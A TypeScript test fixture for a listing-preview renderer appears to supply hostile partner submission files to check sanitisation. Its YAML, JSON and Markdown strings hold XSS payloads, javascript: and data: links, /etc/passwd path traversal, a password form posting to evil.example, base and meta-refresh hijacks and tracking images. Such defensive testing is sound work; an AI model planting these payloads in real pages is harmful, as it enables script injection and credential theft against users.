import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { check } from '../../../src/check.ts';
import { loadSettings } from '../../../src/configuration/load.ts';
import { listingsOf } from '../../../src/listing/preview/listed.ts';
import { renderPreview } from '../../../src/listing/preview.ts';

const EXAMPLE = path.join(__dirname, '../../../examples/post-login-risk');

export const TEXTS = `listing:
  name: Tarnwick Risk
  summary: Scores every login.
  columns:
    - title: Stop account takeover
      text: A login that scores too high is denied.
    - title: Nothing for users to do
`;

/** Files with which a partner could try to make the preview say, load or run something. */
export const hostileFiles: Readonly<Record<string, string>> = {
  '.github/integration-check.yml': `listing:
  name: '<script>alert(1)</script>\\u202e'
  summary: '<img src=x onerror=alert(1)> ![x](https://evil.example/x.png)'
  columns:
    - title: '"><svg onload=alert(1)>'
      text: '</ul></main><style>body{display:none}</style>'
`,
  'integration/configuration.json': JSON.stringify({
    secrets: [
      { name: 'KEY', label: '"><script>alert(1)</script>', description: '<b>x</b>', default_value: 'sk-hidden-1' },
    ],
    configuration: [
      { name: 'A', label: '', description: '\u202edlrow', default_value: '" onfocus="alert(1)" autofocus x="' },
      {
        name: 'B',
        label: 'B',
        description: 'b',
        options: [{ value: '</select><script>', label: '</select><img src=x>' }],
      },
      { name: 'C', label: 'C', description: 3, options: 'no list' },
      7,
    ],
    dependencies: [],
  }),
  'integration/installation_guide.md': `# Title <script>alert(1)</script>

##### Deep

[script](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [file](file:///etc/passwd) [rel](../../etc) [user](https://auth0.com@evil.example/)
[sp](\tjava&#x0A;script:alert(1)) <a href="vbscript:x" onclick="alert(1)" style="position:fixed">html</a> <https://good.example/x>

![remote](https://evil.example/track.png) ![up](../../../etc/passwd) ![logo](../media/256x256-logo.png) ![svg](../media/x.svg)
<img src="//evil.example/x.png" srcset="https://evil.example/y.png 2x" onerror="alert(1)" id="listing" class="bar">

<iframe src="https://evil.example"></iframe><object data="x"></object><form action="https://evil.example"><input name="password"><button>Go</button></form>
<svg><script>alert(1)</script></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math><style>*{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">

<details open ontoggle="alert(1)"><summary>More</summary></div></section></main></body></html>

</details>

<ul><p>No item</p></ul>

| a | b |
| :- | -: |
| 1 | \u202e2 |

- [x] done
- [ ] left
`,
  'media/x.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
};

/** A copy of the example with other files. Call `remove` at the end. */
export function submissionWith(files: Readonly<Record<string, string>>): {
  readonly root: string;
  readonly remove: () => void;
} {
  const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'aic-')));
  fs.cpSync(EXAMPLE, root, { recursive: true });
  for (const [file, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(root, file)), { recursive: true });
    fs.writeFileSync(path.join(root, file), text);
  }
  return {
    root,
    remove: () => {
      fs.rmSync(root, { recursive: true });
    },
  };
}

/** The page for such a copy. Its code is neither tested nor probed. */
export async function previewOf(files: Readonly<Record<string, string>>): Promise<string> {
  const { root, remove } = submissionWith(files);
  try {
    const given = { tests: false, probe: false, 'audit-dependencies': false };
    const loaded = await loadSettings({ root, config: null, given, today: '2026-11-30' });
    const quiet = { progress: () => undefined, announce: () => undefined };
    const { report } = await check({ ...loaded, ...quiet, root, path: '.', toolchain: '/toolchain', commit: null });
    const { listing } = loaded.settings;
    return renderPreview(await listingsOf({ root, path: '.' }, { report, listing }), report);
  } finally {
    remove();
  }
}
